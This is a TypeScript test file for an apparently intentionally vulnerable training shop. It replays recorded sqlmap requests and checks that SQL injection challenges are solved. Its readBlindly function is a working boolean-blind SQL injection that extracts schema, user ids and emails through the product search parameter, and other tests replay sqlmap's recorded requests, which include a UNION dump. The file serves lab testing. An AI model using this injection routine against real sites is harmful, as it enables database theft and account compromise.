import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Learner, openTestApp, type TestApp } from '../../support/test-app.ts'
import recorded from './sqlmap-requests.json' with { type: 'json' }

/**
 * Requests that sqlmap 1.7.2 (Debian) sent to `npm start` on 2026-11-23, with the status of each response.
 *
 * `boolean`: `-u <shop>/rest/products/search?q=apple --batch --level 2 -T Users --dump`, until it knows vulnerability and database.
 * `union`: the same with `--technique=U --union-cols=9 --prefix="'))" --suffix="-- " --dbms=sqlite --schema`, to its end.
 */
const { boolean, union } = recorded as unknown as Record<'boolean' | 'union', readonly (readonly [number, string])[]>

let testApp: TestApp
beforeAll(async () => {
  testApp = await openTestApp()
})
afterAll(() => testApp.close())

const search = (learner: Learner, query: string) => learner.client().get(`/rest/products/search?${query}`)

/** Reads a value as sqlmap does: character by character, each by binary search. */
async function readBlindly(learner: Learner, statement: string): Promise<string> {
  const isTrue = async (condition: string) => {
    const answer = await search(learner, `q=${encodeURIComponent(`apple%' AND ${condition} AND 'GALs%'='GALs`)}`)
    expect(answer.status).toBe(200)
    return answer.json().data.length > 0
  }
  let read = ''
  for (;;) {
    const character = `SUBSTR((${statement}),${read.length + 1},1)`
    if (!(await isTrue(`${character}>CHAR(1)`))) return read
    let [above, upTo] = [1, 127]
    while (upTo - above > 1) {
      const middle = Math.floor((above + upTo) / 2)
      if (await isTrue(`${character}>CHAR(${middle})`)) above = middle
      else upTo = middle
    }
    read += String.fromCharCode(upTo)
  }
}
const select = (column: string, from: string) => `SELECT COALESCE(CAST(${column} AS TEXT),CHAR(32)) FROM ${from}`

describe('sqlmap', () => {
  it('finds the vulnerability and the database type', async () => {
    const learner = testApp.learner()
    const statuses = []
    for (const [, query] of boolean) statuses.push((await search(learner, query)).status)
    expect(statuses).toEqual(boolean.map(([status]) => status))
  })

  it('reads tables and accounts by boolean-based blind injection', async () => {
    const learner = testApp.learner()
    const master = 'sqlite_master WHERE type=CHAR(116,97,98,108,101)'
    const names = learner.inside(({ db }) =>
      db.all<{ name: string }>({ sql: "SELECT name FROM held.sqlite_master WHERE type = 'table'", parameters: [] }),
    )
    expect(await readBlindly(learner, select('COUNT(tbl_name)', master))).toBe(String(names.length))
    const spentCodes = 'tbl_name=CHAR(83,112,101,110,116,67,111,100,101,115)'
    expect(await readBlindly(learner, select('sql', `${master} AND ${spentCodes} LIMIT 1`))).toMatch(
      /^CREATE TABLE SpentCodes \(.*\)$/s,
    )
    // Each column is requested separately, in the database's own row order.
    for (const row of [2, 7]) {
      const [id, email] = [
        await readBlindly(learner, select('id', `Users LIMIT ${row},1`)),
        await readBlindly(learner, select('email', `Users LIMIT ${row},1`)),
      ]
      const sql = 'SELECT email FROM Users WHERE id = ?'
      expect(learner.inside(({ db }) => db.all({ sql, parameters: [id] }))).toEqual([{ email }])
    }
    // No response contained a table or an account.
    expect(await learner.solved()).toEqual([])
  })

  it('dumps accounts and schema by UNION and solves both challenges', async () => {
    const learner = testApp.learner()
    const statuses = []
    for (const [, query] of union) statuses.push((await search(learner, query)).status)
    expect(statuses).toEqual(union.map(([status]) => status))
    expect(await learner.solved()).toEqual(expect.arrayContaining(['dbSchemaChallenge', 'unionSqlInjectionChallenge']))
  })

  it('solves the challenges again after a reset of the progress', async () => {
    const learner = testApp.learner()
    const solvedAgain = async () => {
      for (const [, query] of union.slice(-24)) await search(learner, query)
      return learner.solved()
    }
    const keys = ['dbSchemaChallenge', 'unionSqlInjectionChallenge']
    expect(await solvedAgain()).toEqual(expect.arrayContaining(keys))
    expect((await learner.client().post('/rest/training/reset', { what: 'progress' })).status).toBe(200)
    expect(await learner.solved()).toEqual([])
    expect(await solvedAgain()).toEqual(expect.arrayContaining(keys))
  })
})
